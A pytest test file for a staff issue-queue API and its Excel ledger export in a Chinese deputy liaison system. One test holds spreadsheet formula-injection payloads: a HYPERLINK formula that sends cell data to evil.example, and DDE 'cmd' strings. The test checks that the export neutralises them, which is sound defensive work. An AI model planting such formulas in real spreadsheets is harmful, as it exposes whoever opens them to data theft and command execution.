"""The staff issue queue over HTTP: scope, every filter, the 三色督办 clock in SQL, bad
queries, and the Excel ledger (read back with openpyxl)."""
from __future__ import annotations

import io
import zipfile
from datetime import date, datetime, timedelta
from urllib.parse import quote, unquote

import pytest
from openpyxl import load_workbook

from backend import clock
from backend.services.issues import issue_queue
from models import (
    Category,
    Deputy,
    Issue,
    IssueStatus,
    RatingScore,
    StaffRole,
    Station,
    db,
)
from tests.factories import (
    auth,
    bind_deputy_user,
    create_categories,
    create_deputy,
    create_issue,
    create_region_tree,
    create_staff,
    create_station,
    staff_login,
    wx_login,
)

QUEUE = "/api/v1/manage/issues"
XLSX = "/api/v1/manage/issues.xlsx"
XLSX_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"

# A Monday in an ordinary week: Tue 10 is one working day away, Wed 11 two.
MONDAY = datetime(2026, 11, 9, 10, 0, tzinfo=clock.BEIJING)


def at(y, m, d, hh=10, mm=0) -> datetime:
    return datetime(y, m, d, hh, mm, tzinfo=clock.BEIJING)


@pytest.fixture
def world(app, client):
    """Two stations in 安吉县 (one in a community under the other's township), one in 德清县;
    a manager for the first and for the third, an admin for each county, deputies, a resident."""
    clock.freeze(MONDAY)
    with app.app_context():
        create_categories()
        regions = create_region_tree()
        town = create_station(regions["township"], name="递铺街道联络站", scene="queue01")
        village = create_station(regions["community"], name="古城社区联络站", scene="queue02")
        far = create_station(regions["other_county"], name="德清联络站", scene="queue03")
        zhang = create_deputy(name="张代表", stations=[town])
        li = create_deputy(name="李代表", stations=[town])
        wang = create_deputy(name="王代表", stations=[far])
        create_staff(username="town-manager", stations=[town])
        create_staff(username="far-manager", stations=[far])
        create_staff(username="anji-admin", role=StaffRole.region_admin, region=regions["county"])
        create_staff(username="deqing-admin", role=StaffRole.region_admin, region=regions["other_county"])
        ids = {"town": town.id, "village": village.id, "far": far.id, "zhang": zhang.id, "li": li.id,
               "wang": wang.id}
    return {"ids": ids, "tokens": _Tokens(client)}


class _Tokens(dict):
    """Signs each account in on first use: a password check costs a tenth of a second."""

    def __init__(self, client):
        super().__init__()
        self.client = client

    def __missing__(self, name: str) -> str:
        self[name] = (wx_login(self.client, "queue-resident") if name == "resident"
                      else staff_login(self.client, name))["token"]
        return self[name]


def make(app, station_key: str, world, **fields) -> str:
    """An issue at the named station (deputy fields by name); returns its tracking number."""
    with app.app_context():
        for role in ("addressed_deputy", "assigned_deputy"):
            if role in fields:
                fields[role] = db.session.get(Deputy, world["ids"][fields[role]])
        return create_issue(db.session.get(Station, world["ids"][station_key]), **fields).no


def get(client, world, who="town-manager", url=QUEUE, **params):
    query = "&".join(f"{key}={quote(str(value))}" for key, value in params.items())
    return client.get(f"{url}?{query}" if query else url, headers=auth(world["tokens"][who]))


def nos(response) -> list[str]:
    assert response.status_code == 200, response.get_json()
    return [item["no"] for item in response.get_json()["items"]]


def fields_of(response) -> dict:
    assert response.status_code == 400, response.get_json()
    error = response.get_json()["error"]
    assert error["code"] == "invalid_input" and error["message"]
    return error["details"]["fields"]


def test_the_queue_narrowed_to_a_region_and_what_is_below_it(app, client, world):
    town = make(app, "town", world, created_at=at(2026, 11, 2))
    village = make(app, "village", world, created_at=at(2026, 11, 6))
    make(app, "far", world, created_at=at(2026, 11, 7))
    assert nos(get(client, world, "anji-admin", region="330523001001")) == [village]
    assert nos(get(client, world, "anji-admin", region="330523001000")) == [village, town]
    # A region outside one's scope shows nothing of it.
    assert nos(get(client, world, "far-manager", region="330523000000")) == []
    assert "region" in fields_of(get(client, world, "anji-admin", region="3305"))
    assert fields_of(get(client, world, "anji-admin", region="330523999000"))["region"] == "未找到该区域"


# --- scope ---

def test_each_staff_member_sees_their_stations_or_region_newest_first(app, client, world):
    first = make(app, "town", world, created_at=at(2026, 11, 2))
    second = make(app, "town", world, created_at=at(2026, 11, 5))
    village = make(app, "village", world, created_at=at(2026, 11, 6))
    far = make(app, "far", world, created_at=at(2026, 11, 7))

    page = get(client, world).get_json()
    assert [i["no"] for i in page["items"]] == [second, first]
    assert (page["page"], page["per_page"], page["total"]) == (1, 20, 2)
    assert nos(get(client, world, "anji-admin")) == [village, second, first]
    assert nos(get(client, world, "far-manager")) == [far]
    assert nos(get(client, world, "deqing-admin")) == [far]
    # Naming a station outside one's scope shows nothing, not that station's issues.
    assert nos(get(client, world, "far-manager", station=world["ids"]["town"])) == []
    assert get(client, world, "far-manager", station=world["ids"]["town"]).get_json()["total"] == 0


def test_only_staff_may_read_the_queue(app, client, world):
    make(app, "town", world)
    deputy = bind_deputy_user(client, app, world["ids"]["zhang"], "queue-deputy")
    for url in (QUEUE, XLSX):
        assert client.get(url).status_code == 401
        for token in (world["tokens"]["resident"], deputy):
            response = client.get(url, headers=auth(token))
            assert response.status_code == 403 and response.get_json()["error"]["code"] == "forbidden"


def test_pages(app, client, world):
    made = [make(app, "town", world, created_at=MONDAY - timedelta(hours=n)) for n in range(5)]
    page = get(client, world, per_page=2, page=2).get_json()
    assert [i["no"] for i in page["items"]] == made[2:4]
    assert (page["page"], page["per_page"], page["total"]) == (2, 2, 5)
    assert get(client, world, per_page=2, page=9).get_json()["items"] == []


# --- filters ---

def test_pending_review_is_in_the_queue_and_status_takes_one_or_several(app, client, world):
    held = make(app, "town", world, status=IssueStatus.pending_review, created_at=at(2026, 11, 1))
    waiting = make(app, "town", world, status=IssueStatus.submitted, created_at=at(2026, 11, 2))
    accepted = make(app, "town", world, status=IssueStatus.accepted, created_at=at(2026, 11, 3))
    make(app, "town", world, status=IssueStatus.closed, created_at=at(2026, 11, 4))

    assert held in nos(get(client, world))
    assert nos(get(client, world, status="pending_review")) == [held]
    assert nos(get(client, world, status="submitted,accepted")) == [accepted, waiting]
    assert nos(get(client, world, status=" accepted , submitted,accepted")) == [accepted, waiting]
    assert get(client, world, status="pending_review").get_json()["items"][0]["status_label"] == "待审核"


def test_category_by_name_or_id(app, client, world):
    road = make(app, "town", world, category="交通出行")
    make(app, "town", world, category="教育")
    with app.app_context():
        road_id = db.session.scalar(db.select(Category.id).filter_by(name="交通出行"))
    assert nos(get(client, world, category="交通出行")) == [road]
    assert nos(get(client, world, category=road_id)) == [road]
    assert fields_of(get(client, world, category="不存在的分类")) == {"category": "没有该分类"}
    assert fields_of(get(client, world, category="99999999999999999999")) == {"category": "没有该分类"}


def test_station_filter_within_a_region(app, client, world):
    make(app, "town", world)
    village = make(app, "village", world)
    assert nos(get(client, world, "anji-admin", station=world["ids"]["village"])) == [village]


def test_deputy_filter_is_addressed_or_assigned(app, client, world):
    addressed = make(app, "town", world, addressed_deputy="zhang", created_at=at(2026, 11, 2))
    assigned = make(app, "town", world, status=IssueStatus.accepted, addressed_deputy="li",
                    assigned_deputy="zhang", created_at=at(2026, 11, 3))
    make(app, "town", world, addressed_deputy="li", created_at=at(2026, 11, 4))
    make(app, "town", world, created_at=at(2026, 11, 5))
    assert nos(get(client, world, deputy=world["ids"]["zhang"])) == [assigned, addressed]
    assert len(nos(get(client, world, deputy=world["ids"]["li"]))) == 2


def test_from_and_to_are_beijing_dates_inclusive(app, client, world):
    # Both are on 8 November in UTC; in Beijing one is late on the 8th, the other early on the 9th.
    late = make(app, "town", world, created_at=at(2026, 11, 8, 23, 30))
    early = make(app, "town", world, created_at=at(2026, 11, 9, 0, 30))
    before = make(app, "town", world, created_at=at(2026, 11, 1, 0, 0))
    assert nos(get(client, world, **{"from": "2026-11-09"})) == [early]
    assert nos(get(client, world, to="2026-11-08")) == [late, before]
    assert nos(get(client, world, **{"from": "2026-11-08", "to": "2026-11-08"})) == [late]
    assert nos(get(client, world, **{"from": "2026-11-01", "to": "2026-11-01"})) == [before]


def test_q_is_a_number_prefix_or_a_piece_of_the_content(app, client, world):
    lamp = make(app, "town", world, content="小区门口的路灯坏了三个月，晚上很黑。", created_at=at(2026, 11, 3))
    bus = make(app, "town", world, content="公交站台缺少遮雨棚，下雨天等车很不方便。", created_at=at(2026, 11, 4))
    wild = make(app, "town", world, content="物业费上涨了50%_请核实", created_at=at(2026, 11, 5))
    assert nos(get(client, world, q="遮雨棚")) == [bus]
    assert nos(get(client, world, q=lamp)) == [lamp]
    assert nos(get(client, world, q="20261103")) == [lamp]
    assert nos(get(client, world, q=lamp[-6:])) == []  # a prefix, not any part of the number
    # LIKE's wildcards are taken literally.
    assert nos(get(client, world, q="%")) == [wild]
    assert nos(get(client, world, q="_")) == [wild]
    assert nos(get(client, world, q="  遮雨棚 ")) == [bus]


def test_empty_parameters_mean_any(app, client, world):
    made = make(app, "town", world)
    assert nos(get(client, world, status="", category="", station="", deputy="", clock="", q="",
                   **{"from": "", "to": ""})) == [made]


# --- the 三色督办 clock ---

@pytest.fixture
def clocks(app, world):
    """On Monday 9 November: one issue per case of current_due, named by the colour expected."""
    def issue(**fields):
        return make(app, "town", world, **fields)

    submitted, accepted, transferred = IssueStatus.submitted, IssueStatus.accepted, IssueStatus.transferred
    return {
        "red": [
            issue(status=submitted, accept_due_on=date(2026, 11, 6)),
            # The latest transfer counts, not the latest date: 5 Nov was set after 20 Nov.
            issue(status=transferred, reply_due_on=date(2026, 12, 1),
                  transfers=[("县住建局", date(2026, 11, 20)), ("县交通局", date(2026, 11, 5))]),
        ],
        "yellow": [
            issue(status=submitted, accept_due_on=date(2026, 11, 9)),
            issue(status=accepted, reply_due_on=date(2026, 11, 10)),
        ],
        "green": [
            issue(status=submitted, accept_due_on=date(2026, 11, 11)),
            issue(status=transferred, reply_due_on=date(2026, 11, 2),
                  transfers=[("县交通局", date(2026, 11, 1)), ("县住建局", date(2026, 11, 20))]),
        ],
        None: [
            # Answered once: the reply clock has stopped, however late the reply date.
            issue(status=accepted, reply_due_on=date(2026, 11, 2), first_response_at=at(2026, 11, 1)),
            issue(status=IssueStatus.replied, reply_due_on=date(2026, 11, 2)),
            issue(status=IssueStatus.resolved, accept_due_on=date(2026, 11, 2), reply_due_on=date(2026, 11, 2)),
            issue(status=IssueStatus.pending_review, accept_due_on=date(2026, 11, 2)),
            issue(status=submitted, accept_due_on=None),
        ],
    }


@pytest.mark.parametrize("colour", ["red", "yellow", "green"])
def test_clock_filter_matches_the_colour_each_item_shows(client, world, clocks, colour):
    items = get(client, world, clock=colour).get_json()["items"]
    assert sorted(i["no"] for i in items) == sorted(clocks[colour])
    assert {i["clock"] for i in items} == {colour}


def test_clock_filter_lists_the_oldest_due_first(client, world, clocks):
    red = nos(get(client, world, clock="red"))
    assert red == [clocks["red"][1], clocks["red"][0]]  # due 5 Nov, then 6 Nov
    assert nos(get(client, world, clock="green")) == clocks["green"]  # due 11 Nov, then 20 Nov
    # Without a clock filter, newest first; issues without a running clock have none.
    everything = get(client, world, per_page=100).get_json()["items"]
    assert {i["no"] for i in everything if i["clock"] is None} == set(clocks[None])


def test_clock_combines_with_other_filters(client, world, clocks):
    assert nos(get(client, world, clock="red", status="transferred")) == [clocks["red"][1]]
    assert get(client, world, "far-manager", clock="red").get_json()["total"] == 0


@pytest.mark.parametrize("today, due, colour", [
    # A Saturday: Monday is one working day away (yellow); Tuesday is two (green), although
    # add_workdays(Saturday, 1) is Tuesday, counted from Monday's receipt.
    (date(2026, 11, 14), date(2026, 11, 14), "yellow"),
    (date(2026, 11, 14), date(2026, 11, 16), "yellow"),
    (date(2026, 11, 14), date(2026, 11, 17), "green"),
    (date(2026, 11, 14), date(2026, 11, 13), "red"),
    # The eve of National Day: the next working days are 8 and 9 October.
    (date(2026, 9, 30), date(2026, 10, 5), "yellow"),
    (date(2026, 9, 30), date(2026, 10, 8), "yellow"),
    (date(2026, 9, 30), date(2026, 10, 9), "green"),
    (date(2026, 9, 30), date(2026, 9, 29), "red"),
])
def test_clock_bands_follow_the_working_day_calendar(app, client, world, today, due, colour):
    clock.freeze(datetime.combine(today, datetime.min.time(), tzinfo=clock.BEIJING) + timedelta(hours=9))
    no = make(app, "town", world, status=IssueStatus.submitted, accept_due_on=due)
    found = {c: nos(get(client, world, clock=c)) for c in ("red", "yellow", "green")}
    assert found == {c: [no] if c == colour else [] for c in found}
    assert get(client, world).get_json()["items"][0]["clock"] == colour


# --- what staff see of residents ---

def test_anonymous_issues_show_no_sender_and_phones_stay_masked(app, client, world):
    response = client.post("/api/v1/issues", json={
        "scene": "queue01", "category": "社会治理", "content": "楼道里堆满了杂物，存在消防隐患。", "anonymous": True,
        "contact_phone": "13912345678", "share_phone": True}, headers=auth(world["tokens"]["resident"]))
    assert response.status_code == 201, response.get_json()
    body = get(client, world)
    item = body.get_json()["items"][0]
    assert item["anonymous"] is True and item["contact_phone"] == "139****5678"
    assert not any("submitter" in key or "openid" in key or key == "user" for key in item)
    assert "13912345678" not in body.get_data(as_text=True)

    ledger = get(client, world, url=XLSX)
    sheet = load_workbook(io.BytesIO(ledger.data)).active
    row = [c.value for c in sheet[2]]
    assert row[14] == "是"
    assert "13912345678" not in _sheet_xml(ledger.data) and "queue-resident" not in _sheet_xml(ledger.data)


# --- bad queries ---

@pytest.mark.parametrize("params, field, message", [
    ({"per_page": 101}, "per_page", "不能大于100"),
    ({"per_page": 0}, "per_page", "不能小于1"),
    ({"page": 0}, "page", "不能小于1"),
    ({"page": "abc"}, "page", "应为整数"),
    ({"page": 10**18}, "page", "不能大于1000000"),  # an OFFSET past bigint was a 500 on PostgreSQL
    ({"status": "done"}, "status", "未知的状态：done"),
    ({"status": "submitted,done"}, "status", "未知的状态：done"),
    ({"clock": "blue"}, "clock", "取值应为"),
    ({"station": "abc"}, "station", "应为整数"),
    ({"station": 0}, "station", "不能小于1"),
    ({"station": 2**31}, "station", "不能大于2147483647"),
    ({"deputy": "1.5"}, "deputy", "应为整数"),
    ({"from": "2026-13-01"}, "from", "日期格式应为 YYYY-MM-DD"),
    ({"to": "yesterday"}, "to", "日期格式应为 YYYY-MM-DD"),
    ({"from": "1900-01-01"}, "from", "不能小于2000-01-01"),
    ({"to": "9999-12-31"}, "to", "不能大于2100-12-31"),
    ({"from": "2026-11-09", "to": "2026-11-01"}, "to", "结束日期不能早于开始日期"),
    ({"q": "字" * 101}, "q", "最多100个字符"),
])
def test_bad_queries_are_400_with_chinese_messages(client, world, params, field, message):
    for url in (QUEUE, XLSX):
        if url == XLSX and field in ("page", "per_page"):
            continue  # the export is not paginated
        fields = fields_of(get(client, world, url=url, **params))
        assert list(fields) == [field] and message in fields[field], (url, fields)


def test_a_repeated_status_parameter_is_refused_not_truncated(client, world):
    for url in (QUEUE, XLSX):
        response = client.get(f"{url}?status=submitted&status=accepted",
                              headers=auth(world["tokens"]["town-manager"]))
        assert "英文逗号" in fields_of(response)["status"]


# --- the Excel ledger ---

HEADERS = ["编号", "提交时间", "联络站", "分类", "内容", "状态", "点名代表", "承办代表", "受理期限", "答复期限",
           "督办", "交办单位", "办结时间", "满意度", "是否匿名"]


def _sheet_xml(data: bytes) -> str:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return archive.read("xl/worksheets/sheet1.xml").decode()


def test_the_ledger_has_chinese_headers_and_one_row_per_issue(app, client, world):
    old = make(app, "town", world, status=IssueStatus.closed, category="城乡建设", addressed_deputy="zhang",
               assigned_deputy="li", created_at=at(2026, 11, 2, 8, 5), accept_due_on=date(2026, 11, 4),
               reply_due_on=date(2026, 11, 13), resolved_at=at(2026, 11, 6, 16, 30),
               transfers=[("县住建局", date(2026, 11, 10)), ("县交通局", date(2026, 11, 12))],
               ratings=[RatingScore.unsatisfied, RatingScore.basically_satisfied])
    new = make(app, "town", world, status=IssueStatus.submitted, created_at=at(2026, 11, 9, 0, 15),
               accept_due_on=date(2026, 11, 6), anonymous=True)
    make(app, "far", world)

    response = get(client, world, url=XLSX)
    assert response.status_code == 200
    assert response.mimetype == XLSX_TYPE
    assert response.headers["Cache-Control"] == "no-store"
    disposition = response.headers["Content-Disposition"]
    assert disposition.startswith("attachment;") and 'filename="issue-ledger-20261109.xlsx"' in disposition
    assert unquote(disposition.split("filename*=UTF-8''")[1]) == "意见建议台账-20261109.xlsx"

    sheet = load_workbook(io.BytesIO(response.data)).active
    rows = [[cell.value for cell in row] for row in sheet.iter_rows()]
    assert rows[0] == HEADERS and len(rows) == 3
    assert sheet.freeze_panes == "A2"
    assert rows[1][:4] == [new, datetime(2026, 11, 9, 0, 15), "递铺街道联络站", "交通出行"]  # Beijing time
    assert rows[1][5:11] == ["待受理", None, None, datetime(2026, 11, 6), None, "红"]
    assert rows[1][11:] == [None, None, None, "是"]
    assert rows[2] == [old, datetime(2026, 11, 2, 8, 5), "递铺街道联络站", "城乡建设", "小区门口的路灯坏了三个月，晚上很黑。",
                       "已关闭", "张代表", "李代表", datetime(2026, 11, 4), datetime(2026, 11, 13), None,
                       "县住建局；县交通局", datetime(2026, 11, 6, 16, 30), "基本满意", "否"]
    assert sheet["I2"].number_format == "yyyy-mm-dd" and sheet["B2"].number_format == "yyyy-mm-dd hh:mm"


def test_the_ledger_takes_the_same_filters(app, client, world):
    make(app, "town", world, status=IssueStatus.submitted, accept_due_on=date(2026, 11, 11))
    late = make(app, "town", world, status=IssueStatus.submitted, accept_due_on=date(2026, 11, 2))
    make(app, "village", world)
    sheet = load_workbook(io.BytesIO(get(client, world, "anji-admin", url=XLSX, clock="red").data)).active
    assert [row[0].value for row in sheet.iter_rows(min_row=2)] == [late]
    empty = load_workbook(io.BytesIO(get(client, world, "far-manager", url=XLSX).data)).active
    assert [[c.value for c in row] for row in empty.iter_rows()] == [HEADERS]


@pytest.mark.parametrize("content", [
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"点击查看\")",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
])
def test_a_resident_cannot_plant_a_formula_in_the_ledger(app, client, world, content):
    make(app, "town", world, content=content)
    response = get(client, world, url=XLSX)
    cell = load_workbook(io.BytesIO(response.data)).active["E2"]
    assert cell.value == content  # the text as the resident wrote it, no apostrophe added
    assert cell.data_type == "s" and cell.quotePrefix
    assert "<f>" not in _sheet_xml(response.data)


def test_control_characters_do_not_break_the_export(app, client, world):
    make(app, "town", world, content="路灯\x0b坏了\x01三个月\t晚上很黑")
    response = get(client, world, url=XLSX)
    assert response.status_code == 200
    assert load_workbook(io.BytesIO(response.data)).active["E2"].value == "路灯坏了三个月\t晚上很黑"


def test_the_export_is_capped(app, client, world, monkeypatch):
    monkeypatch.setattr(issue_queue, "EXPORT_MAX_ROWS", 3)
    for _ in range(3):
        make(app, "town", world)
    at_cap = get(client, world, url=XLSX)
    assert at_cap.status_code == 200 and load_workbook(io.BytesIO(at_cap.data)).active.max_row == 4
    make(app, "town", world)
    over = get(client, world, url=XLSX)
    assert over.status_code == 400 and over.mimetype == "application/json"
    error = over.get_json()["error"]
    assert error["code"] == "invalid_input" and "缩小" in error["message"] and "3条" in error["message"]
    assert error["details"]["matched"] == 4 and error["details"]["limit"] == 3
    assert "_query" in error["details"]["fields"]
    # Narrowed, it goes through; the list itself is never capped.
    assert get(client, world, url=XLSX, per_page=1, q="不存在").status_code == 200
    assert get(client, world).get_json()["total"] == 4


def test_the_real_cap_is_ten_thousand(app, client, world):
    assert issue_queue.EXPORT_MAX_ROWS == 10_000
    with app.app_context():
        base = create_issue(db.session.get(Station, world["ids"]["town"]))
        row = {column: getattr(base, column) for column in ("station_id", "category_id", "content", "submitter_id",
                                                            "status", "content_check", "created_at")}
        db.session.execute(db.insert(Issue), [row | {"no": f"20261108-{n:06d}"} for n in range(10_000)])
        db.session.commit()
    error = get(client, world, url=XLSX).get_json()["error"]
    assert error["details"] == {"fields": error["details"]["fields"], "matched": 10_001, "limit": 10_000}


# --- the document ---

def test_openapi_documents_the_queue_and_the_ledger(client):
    doc = client.get("/api/openapi.json").get_json()
    queue = doc["paths"]["/api/v1/manage/issues"]["get"]
    assert queue["responses"]["200"]["content"]["application/json"]["schema"] == {
        "$ref": "#/components/schemas/IssuePage"}
    assert {p["name"] for p in queue["parameters"]} == {
        "page", "per_page", "status", "category", "station", "region", "deputy", "clock", "from", "to", "q",
        "escalated"}
    ledger = doc["paths"]["/api/v1/manage/issues.xlsx"]["get"]
    assert list(ledger["responses"]["200"]["content"]) == [XLSX_TYPE]
    assert "page" not in {p["name"] for p in ledger["parameters"]}
    assert {"400", "401", "403"} <= set(ledger["responses"])
